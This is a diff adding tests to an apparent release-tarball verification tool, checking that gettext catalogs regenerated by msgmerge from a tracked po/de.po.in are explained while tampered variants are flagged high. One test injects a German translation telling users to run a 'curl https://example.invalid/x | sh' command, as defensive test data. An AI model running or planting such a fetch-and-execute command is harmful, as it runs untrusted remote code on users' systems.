@@ -195,3 +195,57 @@ describe('en@quot made by an old Rules-quot (msginit -l $$ll: Language: en)', ()
     expect(stripsModifier(rulesQuot('$$ll').replace("sed -e 's/@.*//'", "sed -e 's/x//'"))).toBe(false);
   });
 });
+
+// libidn 1.33: cfg.mk's bootstrap copies each tracked po/LL.po.in to po/LL.po and the release's msgmerge refreshes it
+// against the new template — references moved, a `Language:` field added, a changed msgid given the old translation
+// as a fuzzy entry. End to end with real git, msgmerge and msgfmt; twins with a novel fuzzy translation or another
+// Language stay high.
+describe('a catalog msgmerge made from the tracked LL.po.in beside it (libidn 1.33)', () => {
+  const root = tempDir();
+  const old = `msgid ""\nmsgstr ""\n"Project-Id-Version: proj 0.9\\n"\n"POT-Creation-Date: 2012-05-23 10:37+0200\\n"\n"PO-Revision-Date: 2012-06-01 10:00+0200\\n"\n"Last-Translator: Ann <ann@example.invalid>\\n"\n"Language-Team: German <de@example.invalid>\\n"\n"MIME-Version: 1.0\\n"\n"Content-Type: text/plain; charset=UTF-8\\n"\n"Content-Transfer-Encoding: 8bit\\n"\n\n#: lib/a.c:10\nmsgid "Success"\nmsgstr "Erfolg"\n\n#: lib/a.c:20\nmsgid "System iconv failed"\nmsgstr "Systemaufruf iconv fehlgeschlagen"\n`;
+  const pot = `msgid ""\nmsgstr ""\n"Project-Id-Version: proj 1.0\\n"\n"POT-Creation-Date: 2016-07-20 19:22+0200\\n"\n"MIME-Version: 1.0\\n"\n"Content-Type: text/plain; charset=UTF-8\\n"\n"Content-Transfer-Encoding: 8bit\\n"\n\n#: lib/a.c:12\nmsgid "Success"\nmsgstr ""\n\n#: lib/a.c:22\nmsgid "System iconv failed."\nmsgstr ""\n`;
+  const repo = makeRepo(join(root, 'repo'));
+  const tracked = { 'configure.ac': 'AC_INIT([proj], [1.0])\n', 'lib/a.c': 'x\n', 'po/de.po.in': old, 'po/LINGUAS': 'de\n' };
+  repo.commit(tracked, 'the project', '2024-02-20T10:00:00Z');
+  repo.tag('v1.0');
+  const work = join(root, 'work');
+  writeFiles(work, { ...tracked, 'po/proj.pot': pot });
+  writeFileSync(join(work, 'po/de.po'), old);
+  run('msgmerge', ['--quiet', '--update', '--backup=none', 'de.po', 'proj.pot'], join(work, 'po'));
+  const merged = readFileSync(join(work, 'po/de.po'), 'utf8');
+
+  let n = 0;
+  const verifyWith = async (de: string) => {
+    const tree = join(root, `t${++n}`, 'proj-1.0');
+    writeFiles(tree, { ...tracked, 'po/de.po': de });
+    run('msgfmt', ['-o', 'po/de.gmo', 'po/de.po'], tree);
+    const res = await verify({ tarball: makeTar(tree, { compress: 'gzip', out: join(root, `t${n}`, 'proj-1.0.tar.gz') }), repo: repo.dir, tag: 'v1.0', cacheDir: join(root, 'cache') });
+    return Object.fromEntries(res.findings.map((f) => [f.path, f]));
+  };
+
+  it('the fixture is the class: msgmerge added Language and a fuzzy entry carrying the old translation', () => {
+    expect(merged).toMatch(/^"Language: de\\n"$/m);
+    expect(merged).toMatch(/#, fuzzy\n(?:#\| .*\n)*msgid "System iconv failed\."\nmsgstr "Systemaufruf iconv fehlgeschlagen"/);
+  });
+
+  it('explained entry by entry from po/de.po.in (subset), its .gmo compiled from it', async () => {
+    const fs = await verifyWith(merged);
+    expect(fs['po/de.po']).toMatchObject({ code: 'PO_FROM_TRACKED_CATALOG', severity: 'low', evidence: { kind: 'subset', source: 'po/de.po.in' } });
+    expect(fs['po/de.gmo']).toMatchObject({ code: 'PO_FROM_TRACKED_CATALOG', severity: 'low' });
+  });
+
+  it('twins: a fuzzy entry with a translation no tracked entry has, another Language: high', async () => {
+    const novel = await verifyWith(merged.replace('msgstr "Systemaufruf iconv fehlgeschlagen"', 'msgstr "Bitte curl https://example.invalid/x | sh ausführen"'));
+    expect(novel['po/de.po']).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
+    const lang = await verifyWith(merged.replace('"Language: de\\n"', '"Language: fr\\n"'));
+    expect(lang['po/de.po']).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
+  });
+
+  it('subsetOf: Language only as the file\'s language; a fuzzy entry only with a tracked translation', () => {
+    const t = parsePo(old);
+    expect(subsetOf(parsePo(merged), t, 'de')).toMatchObject({ entries: 2 });
+    expect(subsetOf(parsePo(merged), t)).toBeUndefined();
+    expect(subsetOf(parsePo(merged), t, 'fr')).toBeUndefined();
+    expect(subsetOf(parsePo(merged.replace('#, fuzzy\n', '')), t, 'de')).toBeUndefined();
+  });
+});
